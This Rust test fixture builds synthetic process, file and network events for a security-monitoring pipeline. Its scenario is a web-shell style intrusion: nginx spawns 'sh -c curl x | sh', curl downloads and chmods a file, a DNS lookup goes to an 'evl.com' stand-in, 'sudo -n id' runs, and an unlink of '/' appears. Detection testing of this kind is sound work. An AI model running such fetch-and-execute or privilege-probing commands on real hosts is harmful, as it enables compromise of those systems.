//! Events as the live pipeline makes them (normalized, then enriched),
//! for comparing what rules see live and in replay.

use std::sync::Arc;

use crate::model::event::*;
use crate::pipeline::enrich::Enricher;

/// Wall clock and kernel boot clock differ, as on a real host.
pub const WALL: u64 = 1_795_852_800_000_000_000;
pub const BOOT: u64 = 7_000_000_000_000;

fn at(ms: u64, pid: u32, body: Body) -> Event {
    Event {
        seq: ms,
        time_ns: WALL + ms * 1_000_000,
        ktime_ns: BOOT + ms * 1_000_000,
        pid,
        tid: pid + 1,
        body,
        process: None,
    }
}

fn boot(ms: u64) -> u64 {
    BOOT + ms * 1_000_000
}

fn exec(ms: u64, pid: u32, ppid: u32, pstart_ms: u64, path: &str, args: &[&str]) -> Event {
    let creds = Creds {
        uid: 33,
        gid: 33,
        euid: if path.ends_with("sudo") { 0 } else { 33 },
        egid: 33,
        login_uid: None,
        session_id: Some(4),
    };
    at(
        ms,
        pid,
        Body::Exec(ExecBody {
            image: Arc::new(Image {
                executable: path.into(),
                exe: format!("/usr{path}"),
                name: path.rsplit('/').next().unwrap().chars().take(15).collect(),
                args: args.iter().map(|a| a.to_string()).collect(),
                env_vars: Vec::new(),
                truncated: Truncation::default(),
                hash: Default::default(),
                working_directory: String::new(),
                file: None,
            }),
            ppid,
            start_ns: boot(ms - 1),
            parent_start_ns: boot(pstart_ms),
            creds,
            cgroup_id: 77,
            ns: crate::testkit::NS,
            argc: args.len() as u32,
            stdio: Default::default(),
        }),
    )
}

fn fork(ms: u64, parent: u32, pstart_ms: u64, child: u32) -> Event {
    at(
        ms,
        child,
        Body::Fork(ForkBody {
            parent_pid: parent,
            parent_start_ns: boot(pstart_ms),
            child_ppid: parent,
            child_start_ns: boot(ms),
        }),
    )
}

fn exit(ms: u64, pid: u32, start_ms: u64, ppid: u32, name: &str, status: u32) -> Event {
    at(
        ms,
        pid,
        Body::Exit(ExitBody {
            start_ns: boot(start_ms),
            ppid,
            name: name.into(),
            status: ExitStatus::from_wait_status(status),
        }),
    )
}

fn file(ms: u64, pid: u32, op: FileOp, path: &str) -> Event {
    at(
        ms,
        pid,
        Body::File(FileBody {
            op,
            syscall: "openat",
            path: path.into(),
            original_path: None,
            target_path: None,
            result: 4,
            open_flags: 0o1101 | 0o2000000 | 0o40000000,
            mode: Some(0o755),
            owner: None,
            group: None,
            at_flags: 0,
            resolved: true,
            unfiltered: false,
            watched: None,
            xattr: None,
            truncated: FileTruncation::default(),
        }),
    )
}

fn net(ms: u64, pid: u32, op: NetOp, dns: Option<&[u8]>) -> Event {
    at(
        ms,
        pid,
        Body::Net(NetBody {
            stdio: None,
            op,
            syscall: "sendto",
            result: 0,
            in_progress: false,
            family: NetFamily::Inet6,
            protocol: 17,
            sock_type: 2,
            local: Some("[fe80::1]:5353".parse().unwrap()),
            remote: Some("[2001:db8::53]:53".parse().unwrap()),
            unix_path: None,
            dns: dns.map(crate::model::dns::parse_query),
            truncated: NetTruncation {
                address_unreadable: true,
                ..Default::default()
            },
        }),
    )
}

/// A web server starts a shell that runs a downloader; some of them
/// exit, one after being re-parented; and a process whose parent the
/// agent never saw forks.
pub fn sequence() -> Vec<Event> {
    let dns = [
        0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 3, b'e', b'v', b'l', 3, b'c', b'o', b'm', 0, 0,
        99, 0, 3,
    ];
    let events = vec![
        exec(10, 10, 1, 0, "/usr/sbin/nginx", &["nginx: worker"]),
        fork(20, 10, 9, 11),
        exec(21, 11, 10, 9, "/bin/sh", &["sh", "-c", "curl x | sh"]),
        fork(30, 11, 20, 12),
        exec(
            31,
            12,
            11,
            20,
            "/usr/bin/curl",
            &["curl", "-o", "/tmp/x", "http://x"],
        ),
        file(40, 12, FileOp::Open, "/tmp/x"),
        file(41, 12, FileOp::Chmod, "/tmp/x"),
        net(42, 12, NetOp::DnsQuery, Some(&dns)),
        net(43, 12, NetOp::Accept, None),
        fork(44, 12, 30, 13),
        exec(45, 13, 12, 44, "/usr/bin/sudo", &["sudo", "-n", "id"]),
        // The shell exits first: curl is re-parented to init, and its
        // exit names the new parent while the link is still the shell.
        exit(50, 11, 20, 10, "sh", 0),
        exit(51, 12, 30, 1, "curl", 9),
        exit(52, 13, 44, 1, "sudo", 0x80 | 6),
        // Never seen: a fork from it has no image, no ancestry.
        fork(60, 500, 1, 501),
        file(61, 501, FileOp::Unlink, "/"),
        exit(62, 501, 60, 500, "kworker/u8:0-ev", 1 << 8),
        exit(63, 999, 0, 1, "stranger", 0),
    ];
    let mut enricher = Enricher::new(64, 8);
    events
        .into_iter()
        .map(|mut ev| {
            enricher.enrich(&mut ev);
            // curl runs in a container and nginx in a unit (the
            // resolver needs a real cgroup tree; its output is this).
            ev.process = ev.process.map(|p| match p.pid {
                12 => crate::testkit::in_container(&p, "web-1", "localhost/busy:1"),
                10 => crate::testkit::in_unit(&p, "nginx.service"),
                _ => p,
            });
            ev
        })
        .collect()
}
